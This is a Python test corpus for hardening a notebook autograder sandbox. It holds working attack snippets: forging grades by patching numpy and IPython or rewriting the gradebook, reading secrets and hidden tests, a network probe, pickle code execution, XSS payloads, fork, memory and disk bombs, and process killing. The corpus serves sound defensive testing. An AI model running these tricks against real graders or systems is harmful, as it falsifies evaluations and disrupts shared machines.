@@ -1,0 +1,503 @@
+"""The corpus: every attack is a submission whose `lstm.step` is wrong, plus something that wants points, secrets
+or other students' grades.
+
+`stock` says what stock nbgrader 0.9.6 does with it: measured where it gives a score, read from its code where it
+says so (bombs were not let loose on it).
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from dataclasses import dataclass
+
+from autograde.records import (
+    CRASHED,
+    FLOODED,
+    GRADED,
+    OUT_OF_MEMORY,
+    STATUSES,
+    TAMPERED,
+    TIMEOUT,
+    UNREADABLE,
+)
+
+WRONG = '''
+def lstm_step(x, h, c, W, U, b):
+    return 0.0, 0.0
+'''
+FULL, NONE = "full marks for a wrong answer", "0"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack.
+
+    Attributes
+    ----------
+    code : runs in the solution cell, after the wrong answer.
+    answer : the answer itself, where the attack is inside it.
+    change : edits the notebook (a dict of JSON) in place, or returns other bytes to hand in.
+    statuses : how it may end.
+    earns : points it may earn (only attacks that hold a right answer may earn any).
+    says : what its output must hold, as proof that the attack really ran.
+    """
+
+    id: str
+    title: str
+    stock: str
+    code: str = ""
+    answer: str = WRONG
+    change: Callable[[dict], bytes | None] | None = None
+    statuses: tuple[str, ...] = (GRADED,)
+    earns: float = 0.0
+    says: str = ""
+
+
+def _checks(notebook: dict) -> list[dict]:
+    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]
+
+
+def _tag(notebook):
+    for cell in _checks(notebook):
+        cell["metadata"]["tags"] = ["skip-execution"]
+
+
+def _points(notebook):
+    for cell in _checks(notebook):
+        cell["metadata"]["nbgrader"]["points"] = 1000
+
+
+def _not_a_check(notebook):
+    for cell in _checks(notebook):
+        cell["metadata"]["nbgrader"].update(grade=False, solution=True)
+
+
+def _own_cell(notebook):
+    notebook["cells"].append({"cell_type": "code", "id": "own", "execution_count": 1, "outputs": [], "source": "1000",
+                              "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "points": 100,
+                                                        "solution": False, "locked": True, "schema_version": 3}}})
+
+
+def _duplicate(notebook):
+    notebook["cells"] = [copy for c in notebook["cells"] for copy in (c, json.loads(json.dumps(c)))]
+
+
+def _stored_outputs(notebook):
+    for cell in _checks(notebook):
+        cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
+                            "data": {"text/plain": "5.0"}}]
+
+
+def _script_everywhere(notebook):
+    for cell in notebook["cells"]:
+        if cell["cell_type"] == "markdown":
+            cell["source"] = "<script>alert(1)</script><img src=x onerror=alert(2)>"
+
+
+def _many_cells(notebook):
+    notebook["cells"] += [{"cell_type": "code", "id": f"x{i}", "metadata": {}, "execution_count": None,
+                           "outputs": [], "source": "x = 1"} for i in range(200_000)]
+
+
+def _deep_json(notebook):
+    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
+
+
+def _in_source(text: str):
+    """Put `text` below the answer, past JSON's own escaping."""
+    def change(notebook):
+        for cell in notebook["cells"]:
+            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "lstm-step":
+                cell["source"] = "".join(cell["source"]) + "\n" + text
+    return change
+
+
+SEND = '''
+import struct, json
+def send(kind, data, body=b"", head=None, size=None, magic=b"UNR1"):
+    head = json.dumps(data).encode() if head is None else head
+    os.write(3, struct.pack(">4s16sII", magic, kind, len(head), len(body) if size is None else size) + head + body)
+'''
+
+FORGING = [
+    Attack("A1", "tag the test cells `skip-execution`", FULL, change=_tag),
+    Attack("A2", "send a result through the display hook", FULL, answer='''
+def lstm_step(x, h, c, W, U, b):
+    get_ipython().displayhook(10.0)
+    return 0.0, 0.0
+'''),
+    Attack("A3", "empty every later cell with an AST transformer", FULL, code='''
+import ast
+class Empty(ast.NodeTransformer):
+    def visit_Module(self, node):
+        node.body = []
+        return node
+get_ipython().ast_transformers.append(Empty())
+'''),
+    Attack("A4", "turn every later cell into `pass` with an input transformer", FULL,
+           code='get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])'),
+    Attack("A5", "replace the shell's run_cell by one that always succeeds", FULL, code='''
+class Fine:
+    error_before_exec = error_in_exec = None
+    success = True
+type(get_ipython()).run_cell = lambda self, *a, **k: Fine()
+get_ipython().run_cell = lambda *a, **k: Fine()
+'''),
+    Attack("A6", "return an array that is equal to everything", FULL, answer='''
+class Equal(np.ndarray):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __array_function__(self, *a, **k): return True
+    def __array_ufunc__(self, *a, **k): return np.zeros(())
+def lstm_step(x, h, c, W, U, b):
+    return np.zeros(3).view(Equal), np.zeros(3).view(Equal)
+'''),
+    Attack("A7", "register a text formatter that prints full marks", FULL,
+           code='get_ipython().display_formatter.formatters["text/plain"].for_type(object, lambda *a: "5.0")'),
+    Attack("A8", "silence showtraceback", NONE, code="get_ipython().showtraceback = lambda *a, **k: None"),
+    Attack("A9", "monkeypatch what compares: numpy.testing, allclose, abs, all", FULL, code='''
+import builtins, numpy.testing
+for module in (np, numpy.testing):
+    for name in ("allclose", "array_equal", "assert_allclose", "assert_array_equal", "isclose"):
+        if hasattr(module, name): setattr(module, name, lambda *a, **k: True)
+builtins.all = builtins.any = lambda *a: True
+builtins.abs = lambda *a: 0
+'''),
+    Attack("A10", "patch the checking framework itself", "n/a (no framework; see A3–A9)", code='''
+import unrolled, unrolled.checking, unrolled.probes
+unrolled.check = unrolled.checking.check = check = lambda *a: None
+unrolled.probes.run = lambda *a: unrolled.probes.Outcome({"random/h": np.ones((3, 7))}, {})
+'''),
+    Attack("A11", "a background thread that patches names in later cells", FULL, code='''
+import threading, time
+def patch():
+    while True:
+        get_ipython().user_ns["check"] = lambda *a: None
+        time.sleep(0.001)
+threading.Thread(target=patch, daemon=True).start()
+'''),
+    Attack("A12", "a detached process that rewrites the gradebook later", FULL + " (30 of 15)", code='''
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        import time, glob, sqlite3
+        for _ in range(1000):
+            for path in glob.glob("/**/gradebook.db", recursive=True):
+                sqlite3.connect(path).execute("update grade set auto_score = 100").connection.commit()
+            time.sleep(0.05)
+    os._exit(0)
+'''),
+    Attack("A13", "write result files wherever they might be read", "n/a (no such files)", code='''
+for folder in (".", "/tmp", "/student", "/autograder", "/"):
+    for name in ("results.json", "results.pkl", "journal.jsonl", "04_lstm.html"):
+        try: open(os.path.join(folder, name), "w").write('{"score": 100}')
+        except OSError: pass
+'''),
+    Attack("A14", "return a pickle that runs code where it is loaded", "n/a (nothing is loaded)", answer='''
+class Poison:
+    def __reduce__(self): return (os.system, ("touch /tmp/poisoned",))
+def lstm_step(x, h, c, W, U, b):
+    return np.array([Poison()], dtype=object), np.array([Poison()], dtype=object)
+'''),
+    Attack("A15", "notice grading by the environment and special-case it", FULL, code='''
+print("env", sorted(os.environ), "grading" if "NBGRADER_EXECUTION" in os.environ else "not told")
+''', says="not told"),
+    Attack("A16", "learn the public inputs' answers by heart", FULL, answer='''
+KNOWN = {}
+def lstm_step(x, h, c, W, U, b):
+    key = round(float(np.sum(x)), 3)
+    return KNOWN.get(key, (np.zeros_like(h), np.zeros_like(c)))
+''', earns=1.0),
+    Attack("A17", "give the test cells 1000 points in the metadata", NONE, change=_points),
+    Attack("A18", "mark the test cells as solution cells", "submission not scored at all", change=_not_a_check),
+    Attack("A19", "add a graded cell of one's own", "submission not scored at all", change=_own_cell),
+    Attack("A20", "exit early: os._exit", "no cell scored, output removed", code="os._exit(0)", statuses=(CRASHED,)),
+    Attack("A20b", "exit early: sys.exit", NONE, code="import sys; sys.exit(0)"),
+    Attack("A21", "save full marks as a stored output", NONE, change=_stored_outputs),
+]
+
+READING = [
+    Attack("B1", "read the hidden tests: course folders, grader, git", "all readable", code='''
+seen = []
+for top in ("/", "/home", "/root", os.getcwd(), os.path.dirname(os.path.dirname(np.__file__))):
+    for depth in ("*", "*/*", "*/*/*", "*/*/*/*"):
+        import glob
+        seen += [p for p in glob.glob(os.path.join(top, depth)) if not p.startswith(("/proc", "/usr", "/lib"))
+                 and ("04_lstm" in p or "/oracles" in p or p.endswith(("/autograde", "/solutions", "/.git")))]
+print("seen", seen)
+''', says="seen []"),
+    Attack("B1b", "import the grader", "n/a", code='''
+try:
+    import autograde.oracles.lstm
+    print("imported")
+except ImportError as error:
+    print("no grader:", error)
+''', says="no grader"),
+    Attack("B1c", "search memory for oracles and secrets", "tests are in memory", code='''
+import gc, sys
+print("found", [m for m in sys.modules if m.startswith("autograde")],
+      [type(o).__name__ for o in gc.get_objects() if type(o).__name__ in ("Exercise", "Misconception", "Oracle")])
+''', says="found [] []"),
+    Attack("B2", "read other students' work and the gradebook", "all readable", code='''
+import glob, unrolled
+course = os.path.dirname(os.path.dirname(unrolled.__file__))
+print("seen", [p for p in glob.glob(course + "/*") + glob.glob(course + "/*/*") if "grade" in p or "submitted" in p])
+''', says="seen []"),
+    Attack("B3", "print the check's source and raise a traceback into the feedback", "source of hidden tests shown", code='''
+import inspect, unrolled.probes.lstm
+print(inspect.getsource(unrolled.probes.lstm.step))
+raise RuntimeError("look")
+'''),
+    Attack("B4", "send data out over the network", "connects", code='''
+import socket
+for address in (("127.0.0.1", 80), ("192.0.2.1", 80)):
+    try:
+        socket.create_connection(address, 0.5); print("connected")
+    except OSError as error:
+        print("no network:", error)
+''', says="no network"),
+    Attack("B7", "read the environment of the grader", "all readable", code='''
+print("env", [v for v in os.environ if "SECRET" in v or "DB" in v or "TOKEN" in v])
+''', says="env []"),
+    Attack("B8", "look at the processes of the machine", "all visible", code='''
+print("pids", sorted(p for p in os.listdir("/proc") if p.isdigit())[:3], os.getppid())
+''', says="pids ['1'] 0"),
+]
+
+FAULTS = [
+    Attack("C1", "endless loop", "30 s, then 0 for the cell", code="while True: pass", statuses=(TIMEOUT,)),
+    Attack("C2", "endless loop that ignores interrupts", "submission not scored", code='''
+import signal
+for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGPROF):
+    signal.signal(number, signal.SIG_IGN)
+while True: pass
+''', statuses=(TIMEOUT,)),
+    Attack("C3", "fork bomb (bounded here to 2,000 forks)", "no limit in its code", code='''
+import time
+for _ in range(2000):
+    try:
+        if os.fork() == 0:
+            time.sleep(60); os._exit(0)
+    except OSError as error:
+        print("limit:", error); break
+''', says="limit:"),
+    Attack("C4", "memory bomb", "no limit in its code", code='''
+hoard = []
+while True: hoard.append(np.ones(4_000_000))
+''', statuses=(OUT_OF_MEMORY,)),
+    Attack("C5", "fill the disk", "no limit in its code", code='''
+try:
+    with open("big", "wb") as file:
+        for _ in range(10_000): file.write(bytes(1 << 20))
+except OSError as error:
+    print("limit:", error)
+''', says="limit:"),
+    Attack("C6", "print for ever", "30 MB in one line reach the feedback", code='''
+while True: print("x" * 100_000, end="")
+''', statuses=(FLOODED,)),
+    Attack("C6b", "write for ever to descriptors 1 and 2", "as C6", code='''
+import threading
+for _ in range(2000): os.write(1, b"x" * 100_000); os.write(2, b"x" * 100_000)
+'''),
+    Attack("C9", "a poisoned model file beside the notebook", "loaded wherever code loads it", code='''
+print(os.path.exists("model.keras"))
+''', says="False"),
+    Attack("C10", "script in markdown and output", "runs in the instructor's browser", change=_script_everywhere,
+           code='print("<script>alert(1)</script>"); raise ValueError("<img src=x onerror=alert(1)>")'),
+    Attack("C11", "every cell twice", "stops the batch for everybody after", change=_duplicate),
+    Attack("C12", "close descriptors 1 and 2", NONE, code="os.close(1); os.close(2)"),
+    Attack("C13", "a megabyte of carriage returns on one line", "minutes of CPU where streams are coalesced",
+           code='print("a\\r" * 500_000)'),
+    Attack("C14", "exotic text, emoji, and a question to the keyboard", "error", code='''
+print("🙂 \\u202e reversed \\ud83d".encode("utf-8", "replace").decode())
+answer = input("points? ")
+'''),
+]
+
+WARM_PROCESS = [
+    Attack("W1", "kill every process there is", "kills the instructor's session", code='''
+import signal
+try: os.kill(-1, signal.SIGKILL)
+except OSError as error: print(error)
+for pid in range(1, 400):
+    if pid != os.getpid():
+        try: os.kill(pid, signal.SIGKILL)
+        except OSError: pass
+'''),
+    Attack("W2", "trace process 1 and neighbours", "works on the own user's processes", code='''
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+print("ptrace", [libc.ptrace(16, pid, 0, 0) for pid in (1, 2, 3)])
+''', says="ptrace [-1, -1, -1]"),
+    Attack("W3", "write to the parent's memory through /proc", "works", code='''
+for pid in ("1", str(os.getppid())):
+    try: open(f"/proc/{pid}/mem", "r+b").seek(0x1000)
+    except OSError as error: print(error)
+'''),
+    Attack("W4", "use descriptors that were left open", "the kernel's sockets are open", code='''
+print("open", sorted(int(n) for n in os.listdir("/proc/self/fd") if int(n) > 3)[:-1])
+''', says="open []"),
+    Attack("W5", "leave something for the next student in shared memory", "stays", code='''
+open("/dev/shm/for-you", "w").write("the answers")
+import ctypes
+ctypes.CDLL(None).shmget(4242, 4096, 0o1666)
+'''),
+    Attack("W6", "enter a user namespace of one's own", "works", code='''
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+print("unshare", libc.unshare(0x10000000), "mount", libc.mount(b"x", b"/tmp", b"tmpfs", 0, None))
+''', says="unshare -1 mount -1"),
+    Attack("W7", "make the file system writable again", "it is writable", code='''
+import ctypes, unrolled
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mount(None, b"/", None, 32 | 4096, None)
+try: open(unrolled.__file__, "a").write("# mine"); print("written")
+except OSError as error: print("kept:", error)
+''', says="kept:"),
+    Attack("W8", "raise one's own limits", "there are none", code='''
+import resource
+for what in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
+    try: resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); print("raised")
+    except (ValueError, OSError) as error: print("kept:", error)
+''', says="kept:"),
+    Attack("W9", "poison modules for whoever is forked next", "n/a (a kernel each)", code='''
+import unrolled.probes, unrolled.sandbox.channel as channel, keras
+unrolled.probes.run = None
+channel.pack = None
+keras.ops.matmul = None
+keras.layers.Layer = None
+''', statuses=STATUSES),
+    Attack("W10", "stop oneself", "hangs until the timeout", code="import signal; os.kill(os.getpid(), signal.SIGSTOP)",
+           statuses=(GRADED, TIMEOUT)),
+    Attack("W11", "a connection to a neighbour over abstract sockets", "works", code='''
+import socket
+listener = socket.socket(socket.AF_UNIX); listener.bind("\\0unrolled-neighbour"); listener.listen()
+'''),
+    Attack("W12", "crash the interpreter", "kernel dies, submission not scored",
+           code="import ctypes; ctypes.string_at(0)", statuses=(CRASHED,)),
+    Attack("W13", "overflow the C stack", "kernel dies, submission not scored", code='''
+import sys
+sys.setrecursionlimit(10**9)
+def deeper(): return deeper.__call__()
+deeper()
+''', statuses=(CRASHED, GRADED, OUT_OF_MEMORY, TIMEOUT)),
+]
+
+CHANNEL = [
+    Attack("K1", "a header that lies about its length", "n/a", code=SEND + 'send(b"answer", {}, size=(1 << 32) - 1)',
+           statuses=(TAMPERED,)),
+    Attack("K2", "bytes that are no frame", "n/a", code='os.write(3, b"full marks please")', statuses=(TAMPERED,)),
+    Attack("K3", "an endless stream", "n/a", code='''
+while True: os.write(3, b"UNR1cell" + bytes(12) + bytes([0, 0, 0, 2, 0, 0, 0, 0]) + b"{}")
+''', statuses=(TAMPERED, TIMEOUT)),
+    Attack("K4", "a decompression bomb in place of arrays", "n/a", code=SEND + '''
+import io, zipfile
+buffer = io.BytesIO()
+with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+    archive.writestr("random/h.npy", bytes(200_000_000))
+send(b"answer", {"exercise": "lstm.step", "errors": {}}, buffer.getvalue())
+''', statuses=(TAMPERED,)),
+    Attack("K5", "forged answers, from a guess of what is expected", "n/a", code='''
+from unrolled.sandbox import channel
+os.write(3, channel.pack("answer", {"exercise": "lstm.step", "errors": {}},
+                         {f"{case}/{k}": np.zeros((3, 7)) for case in ("random", "first") for k in "hc"}))
+''', earns=1.0),
+    Attack("K6", "an early `end`", "n/a", code='''
+from unrolled.sandbox import channel
+os.write(3, channel.pack("end", {}))
+'''),
+    Attack("K7", "a frame of a kind of its own: points", "n/a", code=SEND + 'send(b"points", {"lstm.step": 5})',
+           statuses=(TAMPERED,)),
+    Attack("K8", "text that is deeply nested JSON", "n/a",
+           code=SEND + 'send(b"answer", None, head=b"[" * 100_000)', statuses=(TAMPERED,)),
+    Attack("K9", "close the channel", "n/a", code="os.close(3)", statuses=(CRASHED,)),
+    Attack("K10", "an object whose __array__ runs code", FULL, answer='''
+class Sneaky:
+    def __array__(self, *a, **k):
+        import unrolled.sandbox.runner
+        return np.ones((3, 7))
+def lstm_step(x, h, c, W, U, b):
+    return Sneaky(), Sneaky()
+''', earns=1.0),
+    Attack("K11", "NaN and infinity", FULL, answer='''
+def lstm_step(x, h, c, W, U, b):
+    return np.full(h.shape, np.nan), np.full(c.shape, np.inf)
+''', earns=1.0),
+    Attack("K12", "an array of a hundred million numbers", FULL, answer='''
+def lstm_step(x, h, c, W, U, b):
+    return np.zeros(100_000_000, "float32"), 0.0
+'''),
+    Attack("K13", "strings, objects and structured arrays", FULL, answer='''
+def lstm_step(x, h, c, W, U, b):
+    return np.array(["5"]), np.zeros(3, dtype=[("points", "f8")])
+'''),
+    Attack("K14", "an exception whose text never ends", "30 MB reach the feedback", answer='''
+class Endless(Exception):
+    def __str__(self): return "x" * 50_000_000
+def lstm_step(x, h, c, W, U, b):
+    raise Endless
+'''),
+    Attack("K15", "an exception that cannot be shown", "error", answer='''
+class Shy(Exception):
+    def __str__(self): raise Shy
+    __repr__ = __str__
+def lstm_step(x, h, c, W, U, b):
+    raise Shy
+''', statuses=STATUSES),
+]
+
+REBUILD = [
+    Attack("R1", "a notebook of 200,000 cells", "minutes", change=_many_cells, statuses=(UNREADABLE,)),
+    Attack("R2", "JSON nested 200,000 deep", "submission fails", change=_deep_json, statuses=(UNREADABLE,)),
+    Attack("R3", "null bytes in a cell", "submission fails", change=_in_source("\0x = 1\0"), statuses=(GRADED,)),
+    Attack("R4", "brackets nested deeper than the parser goes", "error", change=_in_source("x = " + "(" * 50_000 + ")" * 50_000)),
+    Attack("R5", "an operator chain the compiler falls over", "error", change=_in_source("x = " + "-" * 100_000 + "1")),
+    Attack("R6", "lone surrogates in a cell", "submission fails", change=_in_source('x = "\ud83d"')),
+    Attack("R7", "a number of a million digits", "error", change=_in_source("x = " + "9" * 150_000)),
+]
+
+TIME = [
+    Attack("T1", "sleep in a destructor", "30 s", code='''
+import time
+class Sleepy:
+    def __del__(self): time.sleep(1000)
+keep = Sleepy()
+'''),
+    Attack("T2", "sleep at exit", "kernel is killed after a while", code='''
+import atexit, time
+atexit.register(time.sleep, 1000)
+'''),
+    Attack("T3", "a thread that outlives its cell", "runs on", code='''
+import threading, time
+threading.Thread(target=lambda: time.sleep(1000)).start()
+'''),
+    Attack("T4", "a daemon that outlives the submission", "runs on after grading", code='''
+import time
+if os.fork() == 0:
+    os.setsid()
+    time.sleep(1000)
+    os._exit(0)
+'''),
+    Attack("T5", "sleep through the wall clock", "30 s, then 0", code="import time; time.sleep(10_000)",
+           statuses=(TIMEOUT,)),
+    Attack("T6", "switch the clock's alarm off, then loop", "30 s, then 0", code='''
+import signal
+signal.setitimer(signal.ITIMER_PROF, 0); signal.setitimer(signal.ITIMER_REAL, 0)
+signal.signal(signal.SIGALRM, signal.SIG_IGN)
+while True: pass
+''', statuses=(TIMEOUT,)),
+    Attack("T7", "a loop that swallows every exception", "30 s, then 0", code='''
+while True:
+    try:
+        while True: pass
+    except BaseException: pass
+''', statuses=(TIMEOUT,)),
+    Attack("T8", "half a million small files", "no limit in its code", code='''
+try:
+    for i in range(500_000): open(f"f{i}", "w").close()
+except OSError as error: print("limit:", error)
+''', says="limit:"),
+]
+
+CORPUS = [*FORGING, *READING, *FAULTS, *WARM_PROCESS, *CHANNEL, *REBUILD, *TIME]
